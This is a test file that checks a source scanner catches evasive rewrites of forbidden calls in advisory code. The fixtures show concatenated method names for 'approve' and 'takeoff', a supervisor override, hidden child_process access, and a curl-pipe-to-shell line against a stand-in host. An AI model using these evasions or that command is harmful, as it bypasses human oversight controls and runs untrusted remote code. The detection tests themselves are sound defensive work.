/**
 * I11-5 / RMOS-S5 (reviewer R2): the advisory identifier scan must not be evaded by the most
 * obvious rewrites of a forbidden call: a name built by string concatenation, the supervisor
 * override the client exposes, a built-in module reached through `process.getBuiltinModule` or an
 * aliased `require`. Each snippet is an advisory source that a reviewer would call an authority
 * call or a process spawn at a glance; each must be reported.
 */
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';

interface Finding {
  rule: string;
  from: string;
  to: string;
}
const { scanSource } = createRequire(import.meta.url)('../../scripts/advisory-scan.mjs') as {
  scanSource: (file: string, text: string) => Finding[];
};

const FILE = 'packages/advisory/src/sneaky.ts';
const rulesOf = (text: string): string[] => scanSource(FILE, text).map((f) => f.rule);

describe('I11-5 / RMOS-S5: the advisory scan is not evaded trivially', () => {
  it('I11-5: a forbidden name built by string concatenation is reported', () => {
    const text = `import { ClearanceClient } from '@clearance/client';
declare const client: ClearanceClient;
const verb = 'appr' + 'ove';
void (client as unknown as Record<string, (id: string) => unknown>)[verb]('apr-1');
void (client as unknown as Record<string, (id: string) => unknown>)[\`take\${'off'}\`]('wf-1');
`;
    expect(rulesOf(text).filter((r) => r === 'advisory-forbidden-identifier')).toHaveLength(2);
  });

  it('I11-5: the client’s supervisor override (an authoritative unlock) is reported', () => {
    const text = `import { ClearanceClient } from '@clearance/client';
declare const client: ClearanceClient;
void client.override('wf-1', { reason: 'the model thinks it is fine' });
`;
    expect(rulesOf(text)).toContain('advisory-forbidden-identifier');
  });

  it('I11-5: child_process through process.getBuiltinModule or an aliased require is reported', () => {
    const builtin = `const cp = process.getBuiltinModule('node:child_process');
cp.exec('curl http://example.invalid | sh');
`;
    expect(rulesOf(builtin)).toContain('advisory-no-child-process');
    const aliased = `declare const require: (id: string) => unknown;
const load = require;
const fs = load('node:fs') as { promises: { writeFile: unknown } };
`;
    expect(rulesOf(aliased)).toContain('advisory-no-dynamic-load');
  });
});
